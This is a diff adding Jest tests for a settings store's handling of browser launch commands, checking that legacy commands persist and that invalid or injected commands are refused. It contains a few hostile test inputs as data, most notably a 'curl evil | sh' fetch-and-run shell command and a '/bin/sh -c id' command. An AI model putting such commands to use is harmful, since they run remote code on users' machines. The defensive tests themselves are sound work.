@@ -190,6 +190,70 @@ describe('FileSettingsStore', () => {
     expect(seen).toHaveLength(3);
   });
 
+  it('keeps using a browser command an older version stored, until a choice replaces it', async () => {
+    const dir = tempDir();
+    const file = path.join(dir, SETTINGS_FILE_NAME);
+    writeFileSync(file, JSON.stringify({ browserCommand: 'firefox -P work {url}' }));
+    const { store, notice } = await FileSettingsStore.open(dir);
+    expect(notice).toBeNull();
+    expect(store.browser()).toEqual({
+      kind: 'legacy-command',
+      commandLine: 'firefox -P work {url}',
+    });
+    // Not part of what the window gets.
+    expect(store.get()).toEqual(DEFAULT_SETTINGS);
+    // Other changes keep it.
+    await store.update({ includeRegion: false });
+    expect(readJson(file).browserCommand).toBe('firefox -P work {url}');
+    // A choice from main's picker replaces it, in the file too.
+    const chosen = {
+      kind: 'installed',
+      browser: 'firefox',
+      executable: '/usr/bin/firefox',
+      profile: 'work',
+      label: 'Firefox: work',
+    } as const;
+    expect(await store.setBrowser(chosen)).toEqual(chosen);
+    expect(readJson(file)).toMatchObject({ includeRegion: false, browser: chosen });
+    expect(readJson(file)).not.toHaveProperty('browserCommand');
+    expect(statSync(file).mode & 0o777).toBe(0o600);
+    expect((await FileSettingsStore.open(dir)).store.browser()).toEqual(chosen);
+    // Back to the system browser: nothing stored.
+    await store.setBrowser({ kind: 'system' });
+    expect(readJson(file)).not.toHaveProperty('browser');
+  });
+
+  it('refuses a browser setting it cannot use, resetting it to the system browser with a notice', async () => {
+    const dir = tempDir();
+    writeFileSync(
+      path.join(dir, SETTINGS_FILE_NAME),
+      JSON.stringify({ browser: { kind: 'command', commandLine: '/bin/sh -c id' } }),
+    );
+    const { store, notice } = await FileSettingsStore.open(dir, { now: NOW });
+    expect(store.browser()).toEqual({ kind: 'system' });
+    expect(notice).toMatchObject({ code: 'settings-invalid-fields' });
+    expect(notice!.message).toContain('browser');
+    await expect(
+      store.setBrowser({ kind: 'program' } as unknown as Parameters<typeof store.setBrowser>[0]),
+    ).rejects.toThrow();
+    expect(store.browser()).toEqual({ kind: 'system' });
+  });
+
+  it('refuses a browser command or choice in an update: only main’s picker sets them', async () => {
+    const dir = tempDir();
+    const { store } = await FileSettingsStore.open(dir);
+    for (const patch of [
+      { browserCommand: "/bin/sh -c 'curl evil | sh' sh" },
+      { browser: { kind: 'program', executable: '/bin/sh' } },
+    ]) {
+      await expect(store.update(patch as unknown as Partial<Settings>)).rejects.toMatchObject({
+        code: 'invalid-settings',
+      });
+    }
+    expect(store.browser()).toEqual({ kind: 'system' });
+    expect(readdirSync(dir)).toEqual([]);
+  });
+
   it('returns frozen settings, so nobody changes them behind the store', async () => {
     const { store } = await FileSettingsStore.open(tempDir());
     expect(Object.isFrozen(store.get())).toBe(true);
